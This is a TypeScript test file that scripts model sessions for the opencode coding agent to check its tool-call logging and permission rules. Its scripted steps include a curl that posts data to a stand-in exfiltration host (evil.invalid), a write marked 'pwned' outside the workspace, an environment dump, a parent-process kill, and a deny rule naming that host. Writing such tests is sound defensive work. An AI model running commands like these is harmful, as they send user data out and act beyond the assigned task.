/** The scripted sessions of opencode. */
import fs from 'node:fs';
import path from 'node:path';
import { startCompletions } from './model/completions.ts';
import { ROUNDS_OF_CALLS } from './parallel.ts';
import type { Scripted } from './script.ts';
import type { Agent, Place } from './session.ts';
import { play, SECOND, type Step, say, shell, step, think, together } from './steps.ts';

export const PROMPT = 'Fix add() in app.py, record a todo, then check connectivity. Ω';
export const FINAL = 'All done: add() fixed, todo recorded, connectivity checked.';
export const SUBTASK = 'SUBAGENT-TASK: run one echo and report.';

const bash = (id: string, command: string, exitCode?: number, more: Partial<Scripted> = {}): Step =>
  shell('bash', id, command, exitCode, more);

/** With everything allowed. */
export function autoSteps({ workspace: w, target, dir }: Place): readonly Step[] {
  return [
    together(
      think('Let me look around first.'),
      say('I will look around first.'),
      bash('call_01', 'echo hello && ls -la', 0, { programs: ['ls'] }),
    ),
    bash('call_02_exit3', 'sh -c "echo out; echo err >&2; exit 3"', 3),
    step('call_05_read', 'read', { filePath: path.join(w, 'app.py') }),
    bash('call_03_big', 'seq 1 20000', 0, { programs: ['seq'] }),
    step(
      'call_04_write',
      'write',
      { filePath: path.join(w, 'notes/todo.md'), content: '# todo\n- rotate keys\n' },
      { files: ['notes/todo.md'] },
    ),
    step(
      'call_06_edit',
      'edit',
      {
        filePath: path.join(w, 'app.py'),
        oldString: 'return a - b',
        newString: 'return a + b',
      },
      { files: ['app.py'] },
    ),
    bash('call_07_shellwrite', 'echo by-shell > via_shell.txt && cat via_shell.txt', 0, {
      files: ['via_shell.txt'],
      programs: ['cat'],
    }),
    bash('call_08_curl', `curl -sS -m 5 ${target}/ping`, 0, { programs: ['curl'] }),
    bash('call_09_evil', 'curl -sS -m 5 -d s=1 http://evil.invalid/exfil', 6, {
      programs: ['curl'],
    }),
    step('call_10_outside', 'write', {
      filePath: path.join(dir, 'outside/file'),
      content: 'pwned\n',
    }),
    together(
      bash('call_11', 'echo parallel-A; sleep 0.3', 0, { programs: ['sleep'] }),
      bash('call_12', 'echo parallel-B; sleep 0.3', 0, { programs: ['sleep'] }),
    ),
    step('call_13_task', 'task', {
      description: 'Sub check',
      prompt: SUBTASK,
      subagent_type: 'general',
    }),
    step('call_14_mcp', 'lab_lookup', { key: 'alpha' }, { tool: 'lookup' }),
    step('call_15_unknown', 'no_such_tool', { a: 1 }, { outcome: 'failure' }),
    say(FINAL),
  ];
}

const SUB = together(say('Sub agent at work.'), bash('call_sub_01', 'echo from-subagent', 0));
export const SUB_CALLS: readonly Scripted[] = SUB.calls;

/** With rules: one command is denied by a rule, another would have to be asked for. */
export const ruleSteps: readonly Step[] = [
  bash('call_r1', 'echo hello', 0),
  bash('call_r2_rule', 'curl -sS -m 5 http://evil.invalid/exfil'),
  bash('call_r3_ask', 'env | sort'),
  say(FINAL),
];

const playing = (steps: readonly Step[]) =>
  startCompletions(
    play({ steps, tool: 'bash', prompt: 'Fix add()', sub: { task: SUBTASK, step: SUB } }),
  );

const MCP = path.join(import.meta.dirname, 'mcp.mjs');

/** A user's own configuration; a run must leave it as it is. */
function userConfig({ dir }: Place, url: string, more: object): string {
  const file = path.join(dir, 'home/.config/opencode/opencode.json');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  const limit = { context: 200_000, output: 8000 };
  const models = {
    scripted: { name: 'Scripted', limit, reasoning: true, tool_call: true },
    small: { name: 'Small', limit },
  };
  const config = {
    $schema: 'https://opencode.ai/config.json',
    autoupdate: false,
    share: 'disabled',
    model: 'lab/scripted',
    small_model: 'lab/small',
    provider: {
      lab: {
        npm: '@ai-sdk/openai-compatible',
        name: 'Lab',
        options: { baseURL: `${url}/v1`, apiKey: 'none' },
        models,
      },
    },
    ...more,
  };
  fs.writeFileSync(file, JSON.stringify(config));
  // At its start opencode installs a package for its plugins' types; nothing here needs that.
  fs.writeFileSync(path.join(dir, 'home/.npmrc'), 'offline=true\nfetch-retries=0\n');
  return file;
}

const ENV = { OPENCODE_DISABLE_AUTOUPDATE: '1', OPENCODE_DISABLE_MODELS_FETCH: '1' };

/** Every question answered with yes by itself; then a second prompt in the same conversation. */
export const auto = (command: string): Agent => ({
  model: (place) => playing(autoSteps(place)),
  configure: (place, model) => [
    userConfig(place, model.url, {
      mcp: { lab: { type: 'local', command: [process.execPath, MCP], enabled: true } },
    }),
  ],
  runs: () => [
    { argv: [command, 'run', '--auto', PROMPT], env: ENV },
    { argv: [command, 'run', '--auto', '--continue', SECOND], env: ENV },
  ],
});

/** Rules, and nobody there to be asked. */
export const ruled = (command: string): Agent => ({
  model: () => playing(ruleSteps),
  configure: (place, model) => [
    userConfig(place, model.url, {
      permission: { bash: { '*': 'ask', 'echo *': 'allow', 'curl *evil.invalid*': 'deny' } },
    }),
  ],
  runs: () => [{ argv: [command, 'run', PROMPT], env: ENV }],
});

/** One run with other steps, everything allowed. */
const bare =
  (steps: readonly Step[] | { readonly status: number }) =>
  (command: string): Agent => ({
    model: () => ('status' in steps ? startCompletions(() => steps) : playing(steps)),
    configure: (place, model) => [userConfig(place, model.url, {})],
    runs: () => [{ argv: [command, 'run', '--auto', PROMPT], env: ENV }],
  });

/** The call kills the agent that made it. */
export const KILLER = bash('call_killer', 'echo before; kill -9 $PPID; sleep 1', 0);
export const killed = bare([KILLER]);
/** Calls at the same time. */
export const parallelSteps: readonly Step[] = [
  ...ROUNDS_OF_CALLS.map((round) =>
    together(...round.map(({ mark, command }) => bash(`call_${mark}`, command, 0))),
  ),
  say(FINAL),
];
export const parallel = bare(parallelSteps);
/** The model refuses every request. */
export const failing = bare({ status: 400 });
